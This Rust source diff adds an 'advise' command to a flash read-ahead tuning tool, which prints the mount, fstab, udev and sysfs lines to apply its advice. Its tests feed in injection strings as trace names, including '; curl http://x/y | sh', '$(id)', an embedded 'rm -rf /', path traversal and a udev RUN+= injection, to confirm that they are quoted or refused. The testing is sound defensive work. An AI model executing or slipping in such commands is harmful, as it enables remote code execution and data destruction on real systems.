@@ -1,0 +1,523 @@
+//! `advise`: what of read-ahead is worth changing for a recorded workload, with evidence, gain, risk and the line to type.
+
+use flashscope_analysis::readahead::{
+    Advice, Change, ErrorBar, Off, Predictor, Seen, Silent, TRIED_KIB, advise, recorded_knob, silent,
+};
+use flashscope_cachesim::PAGE_BYTES;
+use flashscope_output::quote;
+use flashscope_trace::{Device, Trace};
+use serde_json::{Value, json};
+
+use crate::args::AdviseArgs;
+use crate::failure::Failure;
+use crate::predict;
+
+mod apply;
+
+pub fn run(args: &AdviseArgs, quiet: bool) -> Result<(), Failure> {
+    if args.undo {
+        return apply::undo(args, quiet);
+    }
+    let trace = Trace::open(args.trace.as_deref().unwrap_or("".as_ref()))?;
+    let workload = predict::workload(&trace, &args.model)?;
+    let (kernel, exact) = predict::model(&trace, args.model.kernel_model.as_deref())?;
+    let below = predict::storage(&trace, &workload, kernel, args.model.io_kib);
+    let io_pages = below.io_pages;
+    let predictor = Predictor::new(&workload, below);
+    let recorded = predictor.recorded(&TRIED_KIB);
+    let mut storage = Storage::of(trace.facts(), workload.sizes.keys().filter_map(|file| file.device));
+    let now = args.now.unwrap_or_else(|| {
+        let fits = recorded.fits_readahead_kib;
+        // Pages that come the same under many windows tell none of them: then it is the one that the knob says.
+        let as_well = |&said: &u64| said != fits && !predictor.recorded(&[fits, said]).fits_alone;
+        recorded_knob(trace.facts(), &storage.knobs).map(|(_, kib)| kib).filter(as_well).unwrap_or(fits)
+    });
+    let filesystem = predict::mounted(&trace, &workload).unwrap_or_default();
+    let error = predict::error_bar(kernel, &predictor, &filesystem, &args.model);
+    let made = predict::error_bar_made(kernel, &predictor, &args.model);
+    let worst = |bar: &Option<ErrorBar>| bar.as_ref().map(|bar| bar.time_worst_percent);
+    let mut advice = advise(&predictor, now, Off { window: worst(&error), made: worst(&made) });
+    let row = predictor.row(now, &|_| false);
+    let cases = silent(&Seen {
+        facts: trace.facts(),
+        workload: &workload,
+        kernel,
+        io_pages,
+        now: &row,
+        recorded,
+        page_ns: predictor.cost().map(|cost| cost.page_ns),
+        knobs: &storage.knobs,
+        synchronous: storage.synchronous,
+    });
+    let mut told: Vec<String> = cases.iter().map(diagnosis).collect();
+    storage.weighed = storage.synchronous || predictor.cost().is_some() || predictor.queue().is_some();
+    if let Some(queue) = predictor.queue() {
+        told.extend(predict::queue_notes(&workload, queue.device.known_bytes() < 256 << 10));
+    }
+    if !storage.weighed {
+        // Behind a queue a page that comes early may cost the reader nothing, and many small requests cost it more.
+        advice.retain(|one| !matches!(one.change, Change::SetReadahead { .. }));
+        told.push(format!(
+            "The knob is not weighed: on this device read-ahead overlaps with the reader, and the trace does not show what its \
+             requests cost (--events block,cache,syscall). Of {} pages {} are read ahead and not used.",
+            row.tally.pages(),
+            row.tally.pages_unused
+        ));
+    }
+    let unsure =
+        |one: &&Advice| one.change.is_made() && one.time_then_ns.is_some() && one.gain_between_percent.is_none();
+    if let Some(bar) =
+        made.as_ref().filter(|bar| bar.time_worst_percent >= 100.0 && advice.iter().any(|one| unsure(&one)))
+    {
+        told.push(format!(
+            "no from and to of another mount: times were up to {:.0} % off where nobody knew how the files lie (--layout, a recording \
+             that read them page by page, tells it)",
+            bar.time_worst_percent
+        ));
+    }
+    told.extend(predictor.overlap().map(predict::overlap_note));
+    told.extend(predict::unpacking_note(&predictor, &workload));
+    told.extend(predict::notes(&workload, &trace, kernel, exact));
+    if args.json {
+        let list: Vec<_> = advice
+            .iter()
+            .map(|one| json!({"advice": one, "lines": lines(one, &storage), "risk": risk(one, &storage)}))
+            .collect();
+        let all = json!({"schema": 1, "model": kernel.name(), "readahead_kib_now": now, "advice": list, "silent": cases,
+                         "error": error, "error_made": made, "notes": told});
+        outln!("{}", serde_json::to_string_pretty(&all).expect("plain data serialises"));
+        return Ok(());
+    }
+    outln!("Read-ahead now: {now} KiB, as the pages tell. Rules of Linux {}.", kernel.name());
+    if advice.is_empty() {
+        let why =
+            if storage.weighed { ": no setting of read-ahead gains more than 3 %" } else { ", as far as is weighed" };
+        outln!("Nothing is worth changing{why}.");
+    }
+    for (n, one) in advice.iter().enumerate() {
+        outln!("\n{}. {}", n + 1, what(one));
+        outln!("   Evidence: {}", evidence(one, &trace));
+        outln!("   Gain: {}", gain(one));
+        outln!("   Risk: {}", risk(one, &storage));
+        for line in lines(one, &storage) {
+            outln!("   {}", flashscope_report::visible(&line));
+        }
+    }
+    // Each bar where a gain lies between its ends.
+    let between = || advice.iter().filter(|one| one.gain_between_percent.is_some());
+    for (bar, is_made) in [(&error, false), (&made, true)] {
+        if let Some(bar) = bar.as_ref().filter(|_| between().any(|one| one.change.is_made() == is_made)) {
+            outln!("\nFrom and to: what is predicted may be off by {}", flashscope_report::worst(bar, kernel.name()));
+        }
+    }
+    if !told.is_empty() {
+        outln!();
+    }
+    for note in &told {
+        outln!("{}", flashscope_report::visible(note));
+    }
+    if args.apply {
+        let knob = advice.iter().find_map(|one| match one.change {
+            Change::SetReadahead { kib } => Some(kib),
+            _ => None,
+        });
+        apply::apply(args, quiet, knob, &storage.knobs)?;
+    }
+    Ok(())
+}
+
+fn what(advice: &Advice) -> String {
+    match advice.change {
+        Change::SetReadahead { kib: 0 } => "Turn read-ahead off".to_owned(),
+        Change::SetReadahead { kib } => format!("Set read-ahead to {kib} KiB"),
+        Change::BulkRead { on: true, kib } => format!("Mount UBIFS with bulk_read, and read-ahead at {kib} KiB"),
+        Change::BulkRead { on: false, kib } => format!("Mount UBIFS without bulk_read, and read-ahead at {kib} KiB"),
+        Change::SquashfsBlock { from_bytes, bytes } => {
+            format!("Make the squashfs image with blocks of {} KiB instead of {}", bytes / 1024, from_bytes / 1024)
+        }
+        Change::AdviseRandom { file } => format!("Tell the kernel that {} is read at random", predict::file_name(file)),
+    }
+}
+
+fn evidence(advice: &Advice, trace: &Trace) -> String {
+    let mut text =
+        format!("{} of {} pages that come are read ahead and not used", advice.unused_pages_now, advice.pages_now);
+    if let Some(of_change) = evidence_of_change(advice) {
+        text = format!("{of_change}; {text}");
+    }
+    if let Some(file) = advice.file {
+        text += &format!(", most of {}", predict::file_name(file));
+    }
+    if let Some(tid) = advice.task {
+        let name = trace.comm(tid, flashscope_trace::TimeNs(u64::MAX)).unwrap_or("?");
+        text += &format!("; {} ({tid}) brings in most", flashscope_report::visible(name));
+    }
+    text
+}
+
+/// What speaks for this very change.
+fn evidence_of_change(advice: &Advice) -> Option<String> {
+    match advice.change {
+        Change::BulkRead { on: true, .. } => Some(format!(
+            "{:.0} reads of flash for {} pages; {} bulk reads would bring in {} of {} pages with {:.0}",
+            advice.flash_reads_now?,
+            advice.pages_now,
+            advice.bulk_then.reads,
+            advice.bulk_then.pages,
+            advice.pages_then,
+            advice.flash_reads_then?
+        )),
+        Change::BulkRead { on: false, .. } => Some(format!(
+            "{} bulk reads read {} data nodes and keep {} pages",
+            advice.bulk_now.reads, advice.bulk_now.nodes, advice.bulk_now.pages
+        )),
+        Change::SquashfsBlock { from_bytes, bytes } if bytes < from_bytes => {
+            let (block, pages) = ((from_bytes / PAGE_BYTES) as f64, advice.pages_now.max(1) as f64);
+            let used = advice.pages_now.saturating_sub(advice.unused_pages_now) as f64 / pages * block;
+            Some(format!(
+                "a block brings in {block} pages, of which {used:.1} are used in the mean and {:.1} never",
+                block - used
+            ))
+        }
+        Change::SquashfsBlock { from_bytes, .. } => {
+            Some(format!("files are read whole and in order, in blocks of {} pages", from_bytes / PAGE_BYTES))
+        }
+        _ => None,
+    }
+}
+
+fn gain(advice: &Advice) -> String {
+    if let Change::SquashfsBlock { from_bytes, bytes } = advice.change
+        && bytes > from_bytes
+    {
+        let blocks = |pages: u64, bytes: u64| pages.div_ceil(bytes / PAGE_BYTES);
+        return format!(
+            "{} blocks to look up and decompress instead of {} ({} pages instead of {}), and a smaller image; time is not predicted",
+            blocks(advice.pages_then, bytes),
+            blocks(advice.pages_now, from_bytes),
+            advice.pages_then,
+            advice.pages_now
+        );
+    }
+    let pages = format!("{} pages instead of {}", advice.pages_then, advice.pages_now);
+    match (advice.time_now_ns, advice.time_then_ns) {
+        (Some(now), Some(then)) => {
+            let between = advice.gain_between_percent.map(|[least, most]| format!(", {least:.1} to {most:.1} %"));
+            format!(
+                "{:.1} % of the time in reads{} ({:.1} ms instead of {:.1}), {pages}",
+                advice.gain_percent,
+                between.unwrap_or_default(),
+                then / 1e6,
+                now / 1e6
+            )
+        }
+        _ => format!("{:.1} % of pages ({pages}); the trace has nothing to tell time from", advice.gain_percent),
+    }
+}
+
+/// Where the files lie, and which knob is theirs.
+struct Storage {
+    /// Directories of /sys/class/bdi.
+    knobs: Vec<String>,
+    shared: bool,
+    synchronous: bool,
+    /// What requests cost is in the gains.
+    weighed: bool,
+    /// Source and target of UBIFS mounts.
+    ubifs: Vec<(String, String)>,
+    /// Knobs of the trace whose names are none that /sys has: no line is offered for them.
+    odd: Vec<String>,
+}
+
+impl Storage {
+    fn of(facts: &Value, devices: impl Iterator<Item = u32>) -> Storage {
+        let mut storage = Storage {
+            knobs: Vec::new(),
+            shared: false,
+            synchronous: false,
+            weighed: false,
+            ubifs: Vec::new(),
+            odd: Vec::new(),
+        };
+        let devices: std::collections::BTreeSet<String> = devices.map(|device| Device(device).to_string()).collect();
+        let bdis: Vec<&str> =
+            facts["bdi"].as_array().into_iter().flatten().filter_map(|bdi| bdi["name"].as_str()).collect();
+        for mount in facts["mounts"].as_array().into_iter().flatten() {
+            let Some(device) = mount["device"].as_str().filter(|&device| devices.contains(device)) else { continue };
+            let kind = mount["type"].as_str().unwrap_or_default();
+            storage.synchronous |= matches!(kind, "jffs2" | "ubifs" | "yaffs2");
+            match kind {
+                "jffs2" => {
+                    storage.shared = true;
+                    storage
+                        .knobs
+                        .extend(bdis.iter().find(|name| name.starts_with("mtd-")).map(|&name| name.to_owned()));
+                }
+                "ubifs" => {
+                    let text = |name: &str| mount[name].as_str().unwrap_or_default().to_owned();
+                    storage.ubifs.push((text("source"), text("target")));
+                    storage.knobs.extend(bdis.iter().filter(|name| name.starts_with("ubifs_")).map(|&n| n.to_owned()))
+                }
+                _ => storage.knobs.push(device.to_owned()),
+            }
+        }
+        storage.knobs.sort();
+        storage.knobs.dedup();
+        // The trace may come from anybody; what is typed after its advice is typed by root.
+        let (knobs, odd) = storage.knobs.into_iter().partition(|name| quote::sysfs(name).is_some());
+        Storage { knobs, odd, ..storage }
+    }
+}
+
+fn risk(advice: &Advice, storage: &Storage) -> String {
+    let mut text = match advice.change {
+        Change::BulkRead { on: true, .. } => {
+            "reads here and there that hit three pages in a row bring in up to 32; a bulk read needs a buffer of up to 130 KiB in one \
+             piece; with read-ahead above 0 it reads flash many times over"
+                .to_owned()
+        }
+        Change::BulkRead { on: false, .. } => "whole files read in order take more reads of flash".to_owned(),
+        Change::SquashfsBlock { from_bytes, bytes } if bytes < from_bytes => {
+            "the image must be made anew, and gets larger: smaller blocks compress worse, which takes flash and is not predicted"
+                .to_owned()
+        }
+        Change::SquashfsBlock { .. } => {
+            "the image must be made anew; a read of one page then brings in and decompresses a larger block".to_owned()
+        }
+        Change::SetReadahead { .. } => "files that are open keep their window: start the program again".to_owned(),
+        Change::AdviseRandom { .. } => "streams over this file are no longer read ahead".to_owned(),
+    };
+    if storage.shared && matches!(advice.change, Change::SetReadahead { .. }) {
+        text += "; the knob is that of all MTD devices with JFFS2";
+    }
+    if !storage.weighed && !matches!(advice.change, Change::SquashfsBlock { .. }) {
+        text += "; smaller windows make more requests, which is not weighed here";
+    }
+    text
+}
+
+/// In place of a line to type.
+fn not_offered(what: &str, name: &str) -> String {
+    format!(
+        "not offered:  the trace names a {what} that cannot be typed safely: \"{}\"",
+        flashscope_report::visible(name)
+    )
+}
+
+/// What to type, now and for good.
+fn lines(advice: &Advice, storage: &Storage) -> Vec<String> {
+    match advice.change {
+        Change::SetReadahead { kib } => {
+            let names = if storage.knobs.is_empty() { vec!["MAJOR:MINOR".to_owned()] } else { storage.knobs.clone() };
+            let mut lines: Vec<String> = storage.odd.iter().map(|name| not_offered("knob", name)).collect();
+            for name in names {
+                let knob = format!("/sys/class/bdi/{name}/read_ahead_kb");
+                lines.push(format!("now:          echo {kib} > {knob}"));
+                lines.push(format!("tmpfiles.d:   w {knob} - - - - {kib}"));
+                lines.push(format!(
+                    "udev rule:    SUBSYSTEM==\"bdi\", ACTION==\"add\", KERNEL==\"{name}\", ATTR{{read_ahead_kb}}=\"{kib}\""
+                ));
+            }
+            lines
+        }
+        Change::BulkRead { on, kib } => {
+            let option = if on { "bulk_read" } else { "no_bulk_read" };
+            let mut lines = Vec::new();
+            for (source, target) in &storage.ubifs {
+                let typed =
+                    target.starts_with('/').then(|| Some((quote::shell(target)?, quote::fstab(target)?))).flatten();
+                let (Some((word, target)), Some(source)) = (typed, quote::fstab(source)) else {
+                    lines.push(not_offered("mount point", target));
+                    continue;
+                };
+                lines.push(format!("now:          mount -o remount,{option} {word}"));
+                // ubifs_show_options names no default: without the option is what no_bulk_read asks for.
+                lines.push(match on {
+                    true => format!("fstab:        {source} {target} ubifs defaults,bulk_read 0 0"),
+                    false => format!("fstab:        take bulk_read out of the options of {target}"),
+                });
+                if target == "/" {
+                    lines.push(format!("command line: rootflags={option}"));
+                }
+            }
+            lines.extend(
+                storage
+                    .knobs
+                    .iter()
+                    .map(|name| format!("now:          echo {kib} > /sys/class/bdi/{name}/read_ahead_kb")),
+            );
+            lines.extend(storage.odd.iter().map(|name| not_offered("knob", name)));
+            lines
+        }
+        Change::SquashfsBlock { bytes, .. } => {
+            vec![format!("mksquashfs ROOT IMAGE -b {bytes}, with the compressor and options of now")]
+        }
+        Change::AdviseRandom { .. } => {
+            vec!["after open(): posix_fadvise(fd, 0, 0, POSIX_FADV_RANDOM);".to_owned()]
+        }
+    }
+}
+
+/// A case in which nothing happens, and nothing says so: what the trace shows, and what to do.
+fn diagnosis(silent: &Silent) -> String {
+    let ms = |ns: f64| format!("{:.1} ms", ns / 1e6);
+    match silent {
+        Silent::WillNeedReadNothing { calls, pages_asked, file } => format!(
+            "{calls} calls of posix_fadvise(WILLNEED), readahead() or madvise(WILLNEED) asked for {pages_asked} pages, most of {}: \
+             with read-ahead at 0 they read nothing here, and succeed. Read the file instead, or set read-ahead above 0.",
+            predict::file_name(*file)
+        ),
+        Silent::WillNeedCut { calls, longest_pages, window_pages, file } => format!(
+            "{calls} calls of posix_fadvise(WILLNEED), readahead() or madvise(WILLNEED) asked for up to {longest_pages} pages, most of \
+             {}, and got {window_pages} at most, the window, each: ask piece by piece.",
+            predict::file_name(*file)
+        ),
+        Silent::OldWindow { knob, knob_kib, pages_as_kib, pages } => format!(
+            "{knob} said {knob_kib} KiB when the recording began, and all {pages} pages came as with {pages_as_kib} KiB: files that \
+             were open before the knob was changed keep their window. Start the program again."
+        ),
+        Silent::SharedKnob { knob, mounts, devices } => format!(
+            "{knob} is the one knob of all {devices} MTD devices: it works on each JFFS2 that is mounted ({}).",
+            if mounts.is_empty() { "none is".to_owned() } else { mounts.join(", ") }
+        ),
+        Silent::InTheReader { pages_ahead, pages, ahead_ns, time_ns } => {
+            let time = match (ahead_ns, time_ns) {
+                (Some(ahead), Some(time)) => format!(", some {} of {} in reads", ms(*ahead), ms(*time)),
+                _ => String::new(),
+            };
+            format!(
+                "This file system reads ahead in the reader itself: {pages_ahead} of {pages} pages come ahead at its cost{time}."
+            )
+        }
+        Silent::BulkReadInWindows { nodes, pages } => format!(
+            "bulk_read with read-ahead: {nodes} data nodes are read from flash for {pages} pages, because the window's other pages are \
+             locked meanwhile. Use one of the two."
+        ),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use flashscope_analysis::readahead::Storage as Below;
+    use flashscope_analysis::readahead::{Call, Step, Workload};
+    use flashscope_cachesim::{Access, FileId, Kernel, NodeRuns, OpenId};
+
+    const FILE: FileId = FileId { device: Some(14), inode: 5 };
+
+    fn whole_file() -> Workload {
+        let mut workload = Workload { sizes: [(FILE, 200 * PAGE_BYTES)].into(), ..Workload::default() };
+        for page in 0..200 {
+            let access = Access::Read { offset: page * PAGE_BYTES, length: PAGE_BYTES };
+            workload.steps.push(Step { tid: 7, file: FILE, open: OpenId(7), access, call: Some(page as u32) });
+            let duration_ns = Some(300_000);
+            workload.calls.push(Call {
+                pages_added: 1,
+                flash_reads: 3,
+                duration_ns,
+                ..Call::new(7, FILE, false, workload.calls.len() as u64 * 10_000_000)
+            });
+        }
+        workload
+    }
+
+    fn some_advice() -> Advice {
+        let mut workload = whole_file();
+        workload.nodes.runs.insert(FILE, NodeRuns::new(vec![], 30));
+        workload.nodes.flash_pages = Some(2.0);
+        advise(&Predictor::new(&workload, Below::new(Kernel::V6_1)), 0, Off::default()).remove(0)
+    }
+
+    #[test]
+    fn bulk_read_comes_with_the_lines_to_type() {
+        let facts = json!({
+            "mounts": [{"source": "ubi0:root", "target": "/", "type": "ubifs", "device": "0:14"}],
+            "bdi": [{"name": "ubifs_0_0", "read_ahead_kb": 0}],
+        });
+        let mut workload = whole_file();
+        workload.nodes.runs.insert(FILE, NodeRuns::new(vec![], 30));
+        workload.nodes.flash_pages = Some(2.0);
+        let predictor = Predictor::new(&workload, Below::new(Kernel::V6_1));
+        let advice = &advise(&predictor, 0, Off::default())[0];
+        let storage = Storage::of(&facts, [14].into_iter());
+        let lines = lines(advice, &storage);
+        let words = |line: &str| lines.iter().any(|one| one.ends_with(line));
+        assert!(words(" mount -o remount,bulk_read /") && words("rootflags=bulk_read"), "{lines:?}");
+        assert!(words(" ubi0:root / ubifs defaults,bulk_read 0 0"), "{lines:?}");
+        assert!(words("echo 0 > /sys/class/bdi/ubifs_0_0/read_ahead_kb"), "{lines:?}");
+        assert!(evidence_of_change(advice).is_some_and(|text| text.starts_with("600 reads of flash for 200 pages")));
+    }
+
+    /// The words that a shell gives to the `mount` of a line.
+    fn words(line: &str) -> Vec<String> {
+        let script = format!("mount() {{ printf '%s\\0' \"$@\"; }}; {}", line.trim_start_matches("now:"));
+        let said = std::process::Command::new("/bin/sh").args(["-c", &script]).output().expect("a shell");
+        String::from_utf8_lossy(&said.stdout).split_terminator('\0').map(str::to_owned).collect()
+    }
+
+    #[test]
+    fn names_of_a_trace_are_no_commands() {
+        let facts = |target: &str, bdi: &str| {
+            json!({
+                "mounts": [{"source": "ubi0:root", "target": target, "type": "ubifs", "device": "0:14"}],
+                "bdi": [{"name": bdi, "read_ahead_kb": 0}],
+            })
+        };
+        let of = |change: Change, facts: &Value| {
+            let advice = Advice { change, ..some_advice() };
+            lines(&advice, &Storage::of(facts, [14].into_iter()))
+        };
+        let attack = "; curl http://x/y | sh";
+        for target in [format!("/mnt/{attack}"), "/mnt/`id`".into(), "/mnt/$(id)".into(), "/mnt/a b' ; x".into()] {
+            let lines = of(Change::BulkRead { on: true, kib: 0 }, &facts(&target, "ubifs_0_0"));
+            let mount = lines.iter().find(|line| line.contains("remount")).expect("a line");
+            assert_eq!(words(mount), ["-o", "remount,bulk_read", &target], "{mount}");
+            let fstab = lines.iter().find(|line| line.starts_with("fstab:")).expect("a line");
+            let fields = fstab.strip_prefix("fstab:").expect("its head").split_whitespace().count();
+            assert_eq!(fields, 6, "{fstab}");
+        }
+        for target in ["/mnt/a\nrm -rf /", "/mnt/\u{202e}x", "/mnt/\u{1b}[2J", "relative", ""] {
+            let lines = of(Change::BulkRead { on: true, kib: 0 }, &facts(target, "ubifs_0_0"));
+            assert!(lines[0].starts_with("not offered:") && !lines[0].contains('\n'), "{lines:?}");
+            assert!(!lines.iter().any(|line| line.contains("remount")), "{lines:?}");
+        }
+        for bdi in [&format!("ubifs_{attack}"), "ubifs_\", RUN+=\"x", "ubifs_/../../../etc/x", "ubifs_*", "ubifs_a b"] {
+            for change in [Change::SetReadahead { kib: 64 }, Change::BulkRead { on: true, kib: 0 }] {
+                let lines = of(change, &facts("/", bdi));
+                let typed = || lines.iter().filter(|line| !line.starts_with("not offered:"));
+                assert!(lines.iter().any(|line| line.starts_with("not offered:  the trace names a knob")), "{lines:?}");
+                assert!(!typed().any(|line| line.contains(bdi)), "{lines:?}");
+            }
+        }
+    }
+
+    #[test]
+    fn squashfs_comes_with_the_command_and_its_risk() {
+        let workload = whole_file();
+        let below = Below { squashfs: [(14, 8 << 10)].into(), ..Below::new(Kernel::V6_1) };
+        let advice = advise(&Predictor::new(&workload, below), 0, Off::default());
+        let storage = Storage::of(&Value::Null, [14].into_iter());
+        let one = advice.last().expect("larger blocks");
+        assert!(lines(one, &storage)[0].starts_with("mksquashfs ROOT IMAGE -b 131072"), "{advice:?}");
+        assert!(gain(one).starts_with("7 blocks") && gain(one).contains("instead of 100"), "{}", gain(one));
+        assert!(risk(one, &storage).contains("made anew"));
+    }
+
+    #[test]
+    fn each_case_says_what_the_trace_shows() {
+        let cases = [
+            (Silent::WillNeedReadNothing { calls: 3, pages_asked: 77, file: FILE }, "77 pages"),
+            (Silent::WillNeedCut { calls: 3, longest_pages: 99, window_pages: 32, file: FILE }, "up to 99"),
+            (Silent::OldWindow { knob: "mtd-0".into(), knob_kib: 128, pages_as_kib: 0, pages: 5 }, "as with 0 KiB"),
+            (Silent::SharedKnob { knob: "mtd-0".into(), mounts: vec!["/a".into()], devices: 4 }, "all 4 MTD devices"),
+            (
+                Silent::InTheReader { pages_ahead: 8, pages: 9, ahead_ns: Some(2e6), time_ns: Some(3e6) },
+                "2.0 ms of 3.0 ms",
+            ),
+            (Silent::BulkReadInWindows { nodes: 960, pages: 32 }, "960 data nodes"),
+        ];
+        for (case, words) in cases {
+            assert!(diagnosis(&case).contains(words), "{}", diagnosis(&case));
+        }
+    }
+}
